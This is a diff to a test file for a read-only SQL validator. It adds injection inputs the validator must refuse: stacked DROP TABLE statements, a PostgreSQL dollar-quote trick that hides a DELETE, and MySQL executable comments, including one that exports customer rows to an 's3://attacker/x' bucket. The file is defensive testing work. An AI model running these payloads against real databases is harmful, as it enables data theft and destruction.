@@ -64,6 +64,26 @@ describe("readOnlySqlProblem (defence in depth; the read-only database user is t
     ["SELECT 1 # 2; DROP TABLE t", "must be a single statement (a `;` may only end it)"],
     ["SELECT 1--1; DROP TABLE t", "must be a single statement (a `;` may only end it)"],
     ["SELECT 1 /* /* */ ; DROP TABLE t /* */", "must be a single statement (a `;` may only end it)"],
+    // PostgreSQL: a non-ASCII letter is an identifier character, so `é$$` opens no dollar quote,
+    // and the string after it is seen (a backslash in it hid the DELETE from the MySQL reading).
+    // This ran a DELETE on PostgreSQL 15 when the scan read a dollar quote there.
+    [
+      "WITH é$$ AS (SELECT '\\'), d AS (DELETE FROM orders RETURNING 1) SELECT '$$' FROM d",
+      "must not use a backslash inside a string literal (where such a literal ends depends on the server's settings)",
+    ],
+    // MySQL runs the body of an executable comment.
+    [
+      "SELECT * FROM customers /*!50000 INTO OUTFILE S3 's3://attacker/x' */",
+      "must not use a MySQL executable comment (/*! … */): MySQL runs what it holds",
+    ],
+    [
+      "SELECT * FROM t /*! FOR UPDATE */",
+      "must not use a MySQL executable comment (/*! … */): MySQL runs what it holds",
+    ],
+    [
+      "SELECT * FROM t /*M!100000 FOR UPDATE */",
+      "must not use a MySQL executable comment (/*! … */): MySQL runs what it holds",
+    ],
   ])("refuses %j: %s", (sql, problem) => {
     expect(readOnlySqlProblem(sql)).toBe(problem);
   });
